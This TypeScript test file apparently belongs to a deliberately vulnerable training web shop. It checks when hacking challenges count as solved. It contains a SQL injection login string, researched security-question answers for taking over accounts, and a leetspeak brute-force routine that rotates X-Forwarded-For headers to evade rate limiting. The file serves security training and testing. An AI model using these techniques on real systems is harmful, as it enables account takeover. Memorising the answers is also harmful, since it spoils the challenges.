import type { ChallengeKey } from '@pulp/challenges'
import request from 'supertest'
import { beforeEach, describe, expect, it } from 'vitest'
import { md5 } from '../../lib/crypto'
import { createTestShop, type TestShop } from '../../testing/test-app'

let shop: TestShop
beforeEach(() => {
  shop = createTestShop()
})

const solved = (key: ChallengeKey) => shop.ctx.training.isSolved(key)
const reset = (email: string, answer: string, newPassword = 'pwned-it') =>
  request(shop.app).post('/rest/user/reset-password').send({ email, answer, new: newPassword, repeat: newPassword })

describe('changePasswordBenderChallenge', () => {
  const changePassword = (token: string, query: Record<string, string>) =>
    request(shop.app).get('/rest/user/change-password').query(query).set('Authorization', `Bearer ${token}`)

  it("is solved by logging in as Bender with SQL injection and changing his password without the current one", async () => {
    const login = await request(shop.app).post('/rest/user/login').send({ email: "bender@juice-sh.op'--", password: 'x' })
    const response = await changePassword(login.body.authentication.token, { new: 'slurmCl4ssic', repeat: 'slurmCl4ssic' })
    expect(response.status).toBe(200)
    expect(response.body.user).toMatchObject({ id: 3, email: 'bender@juice-sh.op', password: md5('slurmCl4ssic') })
    expect(solved('changePasswordBenderChallenge')).toBe(true)
  })

  it('is not solved by a change that names the current password, or by another user or password', async () => {
    const bender = await shop.login('bender@juice-sh.op', 'OhG0dPlease1nsertLiquor!')
    await changePassword(bender.token, { current: 'OhG0dPlease1nsertLiquor!', new: 'slurmCl4ssic', repeat: 'slurmCl4ssic' })
    await changePassword(bender.token, { new: 'slurmClassic', repeat: 'slurmClassic' })
    const jim = await shop.login('jim@juice-sh.op', 'ncc-1701')
    await changePassword(jim.token, { new: 'slurmCl4ssic', repeat: 'slurmCl4ssic' })
    expect(solved('changePasswordBenderChallenge')).toBe(false)
  })
})

describe.each([
  ['resetPasswordJimChallenge', 'jim@juice-sh.op', 'Samuel'],
  ['resetPasswordBenderChallenge', 'bender@juice-sh.op', "Stop'n'Drop"],
  ['resetPasswordBjoernChallenge', 'bjoern@juice-sh.op', 'West-2082'],
  ['resetPasswordBjoernOwaspChallenge', 'bjoern@owasp.org', 'Zaya'],
  ['resetPasswordUvoginChallenge', 'uvogin@juice-sh.op', 'Silence of the Lambs'],
  ['geoStalkingMetaChallenge', 'john@juice-sh.op', 'Daniel Boone National Forest'],
  ['geoStalkingVisualChallenge', 'emma@juice-sh.op', 'ITsec'],
] as const)('%s', (key, email, answer) => {
  it(`is solved by resetting the password of ${email} with the researched answer`, async () => {
    const question = await request(shop.app).get('/rest/user/security-question').query({ email })
    expect(question.body.question.question).toEqual(expect.any(String))
    const response = await reset(email, answer)
    expect(response.status).toBe(200)
    expect(response.body.user).toMatchObject({ email, password: md5('pwned-it') })
    expect(solved(key)).toBe(true)
    expect((await request(shop.app).post('/rest/user/login').send({ email, password: 'pwned-it' })).status).toBe(200)
  })

  it('is not solved by a wrong answer or by resetting another user', async () => {
    expect((await reset(email, `${answer}?`)).status).toBe(401)
    expect((await reset('basil@juice-sh.op', 'English Riviera')).status).toBe(200)
    expect(solved(key)).toBe(false)
  })
})

describe('resetPasswordMortyChallenge', () => {
  const MORTY = 'morty@juice-sh.op'
  const LEET: Record<string, string[]> = { a: ['4'], e: ['3'], i: ['1'], l: ['1'], o: ['0'], s: ['5'], t: ['7'] }

  /** Every spelling of `word` with each letter in leetspeak, upper or lower case (the attacker's word list). */
  function leetVariants(word: string): string[] {
    return [...word.toLowerCase()].reduce<string[]>(
      (prefixes, letter) => prefixes.flatMap((prefix) => [...(LEET[letter] ?? []), letter.toUpperCase(), letter].map((choice) => prefix + choice)),
      [''],
    )
  }

  const forwardedFor = (attempt: number) => `10.${(attempt >> 16) & 255}.${(attempt >> 8) & 255}.${attempt & 255}`

  it('is solved by brute-forcing leetspeak pet names from a new X-Forwarded-For address each time', async () => {
    const wordList = [...leetVariants('Snuffles').slice(0, 150), ...leetVariants('Snowball')]
    expect(wordList).toContain('5N0wb41L')
    let attempts = 0
    let response: request.Response | undefined
    for (const answer of wordList) {
      attempts++
      response = await request(shop.app)
        .post('/rest/user/reset-password')
        .set('X-Forwarded-For', forwardedFor(attempts))
        .send({ email: MORTY, answer, new: 'sc13nc3!', repeat: 'sc13nc3!' })
      if (response.status !== 401) break
    }
    expect(attempts).toBeGreaterThan(100)
    expect(response?.status).toBe(200)
    expect(response?.body.user).toMatchObject({ email: MORTY, password: md5('sc13nc3!') })
    expect(solved('resetPasswordMortyChallenge')).toBe(true)
  })

  it('is not solved without rotating the address: the 101st attempt is refused with 429, even with the right answer', async () => {
    for (let attempt = 1; attempt <= 100; attempt++) {
      const wrong = await request(shop.app).post('/rest/user/reset-password').set('X-Forwarded-For', '10.0.0.1')
        .send({ email: MORTY, answer: `Snowball${attempt}`, new: 'sc13nc3!', repeat: 'sc13nc3!' })
      expect(wrong.status).toBe(401)
    }
    const limited = await request(shop.app).post('/rest/user/reset-password').set('X-Forwarded-For', '10.0.0.1')
      .send({ email: MORTY, answer: '5N0wb41L', new: 'sc13nc3!', repeat: 'sc13nc3!' })
    expect(limited.status).toBe(429)
    expect(solved('resetPasswordMortyChallenge')).toBe(false)
  })
})
